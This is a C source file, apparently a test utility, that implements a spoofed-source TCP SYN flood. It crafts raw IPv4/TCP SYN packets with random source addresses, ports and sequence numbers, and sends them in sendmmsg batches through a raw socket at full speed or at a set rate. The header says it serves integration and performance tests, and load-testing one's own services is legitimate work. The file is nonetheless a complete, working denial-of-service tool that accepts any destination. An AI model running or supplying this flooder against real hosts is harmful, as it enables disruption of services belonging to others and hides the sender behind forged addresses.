// SPDX-License-Identifier: Apache-2.0
// A spoofed TCP SYN flood for tests/integration/syn_flood.sh and the flood row of
// tests/perf/run.sh: SYNs to DST:PORT from random sources in SRC_NET/16 (random source ports
// and sequence numbers), through a raw socket with IP_HDRINCL, in sendmmsg batches, for SECONDS
// seconds, as fast as one core sends them (RATE 0) or paced at RATE packets/s.
//   synflood DST PORT SECONDS [RATE [SRC_NET]]      SRC_NET defaults to 198.19.0.0
// Prints "sent N SYNs in S s (R/s)" on stdout. IPv4 only; needs CAP_NET_RAW.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { kBatch = 64, kIpLen = 20, kTcpLen = 24, kPktLen = kIpLen + kTcpLen };

static double nowSec(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

// xorshift64*: fast, and good enough to look random to a hash table.
static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void) {
  rng_state ^= rng_state >> 12;
  rng_state ^= rng_state << 25;
  rng_state ^= rng_state >> 27;
  return rng_state * 0x2545f4914f6cdd1dull;
}

static uint16_t fold(uint32_t s) {
  while (s >> 16)
    s = (s & 0xffff) + (s >> 16);
  return (uint16_t)s;
}

static uint32_t sum16(const uint8_t* p, size_t n) {
  uint32_t s = 0;
  for (size_t i = 0; i + 1 < n; i += 2)
    s += (uint32_t)(p[i] << 8 | p[i + 1]);
  return s;
}

static void put16(uint8_t* p, uint16_t v) {
  p[0] = (uint8_t)(v >> 8);
  p[1] = (uint8_t)v;
}

static void put32(uint8_t* p, uint32_t v) {
  p[0] = (uint8_t)(v >> 24);
  p[1] = (uint8_t)(v >> 16);
  p[2] = (uint8_t)(v >> 8);
  p[3] = (uint8_t)v;
}

// One SYN from a fresh random source, port and sequence number (MSS option 1460).
static void fill(uint8_t* pkt, uint32_t src_net, uint32_t dst, uint16_t dport) {
  const uint64_t r = rnd();
  const uint32_t src = src_net | (uint32_t)(r & 0xffff);
  const uint16_t sport = (uint16_t)(1024 + (r >> 16) % 64512);
  const uint32_t seq = (uint32_t)(r >> 32);
  memset(pkt, 0, kPktLen);
  uint8_t* ip = pkt;
  ip[0] = 0x45;
  put16(ip + 2, kPktLen);
  put16(ip + 4, (uint16_t)(r >> 48));
  ip[8] = 64;
  ip[9] = IPPROTO_TCP;
  put32(ip + 12, src);
  put32(ip + 16, dst);
  put16(ip + 10, (uint16_t)~fold(sum16(ip, kIpLen)));
  uint8_t* tcp = pkt + kIpLen;
  put16(tcp, sport);
  put16(tcp + 2, dport);
  put32(tcp + 4, seq);
  tcp[12] = (kTcpLen / 4) << 4;
  tcp[13] = 0x02;  // SYN
  put16(tcp + 14, 64240);
  tcp[20] = 2;  // MSS
  tcp[21] = 4;
  put16(tcp + 22, 1460);
  uint32_t s = sum16(ip + 12, 8) + IPPROTO_TCP + kTcpLen + sum16(tcp, kTcpLen);
  put16(tcp + 16, (uint16_t)~fold(s));
}

int main(int argc, char** argv) {
  if (argc < 4 || argc > 6) {
    fprintf(stderr, "usage: %s DST PORT SECONDS [RATE [SRC_NET]]\n", argv[0]);
    return 2;
  }
  struct in_addr dst, net;
  const char* net_s = argc > 5 ? argv[5] : "198.19.0.0";
  if (inet_pton(AF_INET, argv[1], &dst) != 1 || inet_pton(AF_INET, net_s, &net) != 1) {
    fprintf(stderr, "bad address\n");
    return 2;
  }
  const uint16_t dport = (uint16_t)atoi(argv[2]);
  const double seconds = atof(argv[3]);
  const double rate = argc > 4 ? atof(argv[4]) : 0;
  rng_state ^= (uint64_t)getpid() << 32 | (uint64_t)time(NULL);

  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("socket(SOCK_RAW)");
    return 1;
  }
  int one = 1;
  setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one));
  int sndbuf = 4 << 20;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof(sndbuf));

  static uint8_t pkts[kBatch][kPktLen];
  struct iovec iov[kBatch];
  struct mmsghdr msgs[kBatch];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
  for (int i = 0; i < kBatch; ++i) {
    iov[i].iov_base = pkts[i];
    iov[i].iov_len = kPktLen;
    memset(&msgs[i], 0, sizeof(msgs[i]));
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
    msgs[i].msg_hdr.msg_name = &to;
    msgs[i].msg_hdr.msg_namelen = sizeof(to);
  }

  const uint32_t src_net = ntohl(net.s_addr) & 0xffff0000u;
  const uint32_t dst_h = ntohl(dst.s_addr);
  const double t0 = nowSec();
  double now = t0;
  unsigned long long sent = 0, failed = 0;
  while (now - t0 < seconds) {
    if (rate > 0 && (double)sent > rate * (now - t0)) {
      struct timespec ts = {0, 200000};
      nanosleep(&ts, NULL);
      now = nowSec();
      continue;
    }
    for (int i = 0; i < kBatch; ++i)
      fill(pkts[i], src_net, dst_h, dport);
    int n = sendmmsg(fd, msgs, kBatch, 0);
    if (n > 0) {
      sent += (unsigned long long)n;
    } else if (errno == ENOBUFS || errno == EAGAIN) {
      ++failed;  // the device queue is full: the next batch tries again
    } else {
      perror("sendmmsg");
      return 1;
    }
    now = nowSec();
  }
  const double took = nowSec() - t0;
  printf("sent %llu SYNs in %.1f s (%.0f/s), %llu full-queue retries\n", sent, took,
         (double)sent / took, failed);
  return 0;
}
